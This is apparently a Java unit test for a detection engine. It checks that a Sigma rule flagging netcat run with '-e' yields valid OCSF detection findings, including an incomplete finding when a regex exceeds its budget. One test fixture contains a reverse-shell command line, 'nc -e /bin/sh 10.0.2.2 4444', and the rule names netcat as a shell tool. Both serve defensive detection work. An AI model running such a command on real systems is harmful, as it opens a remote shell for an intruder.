package io.chirp.detect;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.chirp.detect.ocsf.OcsfPipeline;
import org.junit.jupiter.api.Test;

import java.nio.file.Path;
import java.time.Instant;
import java.util.HashSet;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Set;

import static org.assertj.core.api.Assertions.assertThat;

/** Findings are checked against the OCSF 1.8.0 class definition in ../shared/data/ocsf, resolved like the server does. */
class DetectionFindingsTest {
    private static final ObjectMapper JSON = new ObjectMapper();

    private static final String RULE = """
            title: Netcat with -e
            id: 0b1f7f0e-1111-4222-8333-944445555666
            tags: [attack.execution, attack.t1059.004]
            level: high
            logsource: {category: process_creation, product: linux}
            detection:
                sel:
                    Image|endswith: /nc
                    CommandLine|contains: ' -e '
                filter:
                    User: root
                condition: sel and not filter
            """;

    @Test void findingCarriesRuleEvidenceAndValidatesAgainstTheClass() throws Exception {
        JsonNode launch = JSON.readTree("""
                {"class_uid": 1007, "activity_id": 1, "metadata": {"uid": "ev-9", "version": "1.8.0", "product": {"name": "CHIRP"}},
                 "device": {"name": "lab-1"},
                 "process": {"pid": 42, "cmd_line": "nc -e /bin/sh 10.0.2.2 4444", "file": {"path": "/usr/bin/nc"},
                             "user": {"name": "alice"}}}
                """);
        Detection d = Detector.fromYaml(RULE, "r.yml").detect(OcsfPipeline.standard().map(launch).orElseThrow()).getFirst();
        ObjectNode f = DetectionFindings.toOcsf(d, Instant.ofEpochMilli(1_760_000_000_000L));

        assertThat(f.path("class_uid").asInt()).isEqualTo(2004);
        assertThat(f.path("type_uid").asInt()).isEqualTo(200401);
        assertThat(f.path("severity_id").asInt()).isEqualTo(4);
        assertThat(f.path("time").asLong()).isEqualTo(1_760_000_000_000L);
        assertThat(f.at("/finding_info/analytic/uid").asText()).isEqualTo("0b1f7f0e-1111-4222-8333-944445555666");
        assertThat(f.at("/finding_info/analytic/type_id").asInt()).isEqualTo(1);
        assertThat(f.at("/finding_info/attacks/0/technique/uid").asText()).isEqualTo("T1059.004");
        assertThat(f.at("/finding_info/related_events/0/uid").asText()).isEqualTo("ev-9");
        assertThat(f.at("/device/name").asText()).isEqualTo("lab-1");
        assertThat(f.at("/evidences/0/process/pid").asInt()).isEqualTo(42);
        assertThat(f.at("/evidences/0/data/selections").toString()).isEqualTo("[\"sel\"]");
        assertThat(f.at("/evidences/0/data/matched/1/value").asText()).isEqualTo("nc -e /bin/sh 10.0.2.2 4444");
        assertThat(DetectionFindings.toOcsf(d, Instant.EPOCH).at("/finding_info/uid"))
                .as("stable uid for the same rule and event").isEqualTo(f.at("/finding_info/uid"));
        assertThat(OcsfPipeline.standard().map(f)).as("our own finding is not fed back to rules").isEmpty();

        OcsfClass cls = OcsfClass.load(SharedData.root().resolve("ocsf"), "events/findings/detection_finding.json");
        for (Iterator<String> it = f.fieldNames(); it.hasNext(); ) {
            String k = it.next();
            assertThat(cls.attributes).as("attribute %s of detection_finding", k).contains(k);
        }
        assertThat(f.properties().stream().map(Map.Entry::getKey).toList()).as("required attributes").containsAll(cls.required);
        assertThat(f.at("/finding_info/uid").isTextual()).isTrue();
        assertThat(f.at("/metadata/version").asText()).isEqualTo("1.8.0");
        assertThat(f.at("/metadata/product/name").asText()).isEqualTo("CHIRP");
    }

    @Test void undecidedRuleBecomesAnIncompleteFindingThatValidatesAgainstTheClass() throws Exception {
        String rule = RULE.replace("CommandLine|contains: ' -e '", "CommandLine|re: '(.*a){12}EVIL'");
        JsonNode launch = JSON.readTree("""
                {"class_uid": 1007, "activity_id": 1, "metadata": {"uid": "ev-10", "version": "1.8.0", "product": {"name": "CHIRP"}},
                 "process": {"pid": 43, "cmd_line": "%s", "file": {"path": "/usr/bin/nc"}, "user": {"name": "alice"}}}
                """.formatted("a".repeat(300) + "EVI"));
        Detector detector = Detector.fromYaml(rule, "r.yml");
        var sigma = OcsfPipeline.standard().map(launch).orElseThrow();
        assertThat(detector.detect(sigma)).isEmpty();
        RuleOutcome.Undecided u = (RuleOutcome.Undecided) detector.outcomes(sigma).getFirst();
        ObjectNode f = DetectionFindings.toOcsf(u, Instant.ofEpochMilli(1_760_000_000_000L));

        assertThat(DetectionFindings.isIncomplete(f)).isTrue();
        assertThat(f.path("message").asText()).startsWith("evaluation incomplete: Sigma rule 'Netcat with -e'")
                .contains("exceeded its budget");
        assertThat(f.at("/evidences/0/data/evaluation").asText()).isEqualTo("incomplete");
        assertThat(f.at("/evidences/0/data/reasons/0").asText()).startsWith("CommandLine|re: regex /(.*a){12}EVIL/");
        assertThat(f.at("/finding_info/analytic/uid").asText()).isEqualTo("0b1f7f0e-1111-4222-8333-944445555666");
        assertThat(f.at("/evidences/0/process/pid").asInt()).isEqualTo(43);
        assertThat(OcsfPipeline.standard().map(f)).as("not fed back to rules").isEmpty();
        OcsfClass cls = OcsfClass.load(SharedData.root().resolve("ocsf"), "events/findings/detection_finding.json");
        for (Iterator<String> it = f.fieldNames(); it.hasNext(); ) assertThat(cls.attributes).contains(it.next());
        assertThat(f.properties().stream().map(Map.Entry::getKey).toList()).containsAll(cls.required);

    }

    /** The attributes of an OCSF class with {@code extends} and {@code $include} resolved. */
    record OcsfClass(Set<String> attributes, Set<String> required) {
        static OcsfClass load(Path ocsf, String file) throws Exception {
            Set<String> attrs = new HashSet<>(), req = new HashSet<>();
            String next = file;
            while (next != null) {
                JsonNode c = JSON.readTree(ocsf.resolve(next).toFile());
                collect(ocsf, c.path("attributes"), attrs, req, true);
                String ext = c.path("extends").asText(null);
                next = ext == null ? null : switch (ext) {
                    case "finding" -> "events/findings/finding.json";
                    case "base_event" -> "events/base_event.json";
                    default -> throw new AssertionError("unexpected parent " + ext);
                };
            }
            return new OcsfClass(attrs, req);
        }

        /** Attributes of included profiles are allowed, but required only when the profile is applied (we apply none). */
        private static void collect(Path ocsf, JsonNode attributes, Set<String> attrs, Set<String> req, boolean own) throws Exception {
            for (Map.Entry<String, JsonNode> e : attributes.properties()) {
                if (e.getKey().equals("$include")) {
                    for (JsonNode inc : e.getValue()) collect(ocsf, JSON.readTree(ocsf.resolve(inc.asText()).toFile()).path("attributes"), attrs, req, false);
                    continue;
                }
                attrs.add(e.getKey());
                if (own && "required".equals(e.getValue().path("requirement").asText())) req.add(e.getKey());
            }
            assertThat(List.copyOf(attrs)).isNotEmpty();
        }
    }
}
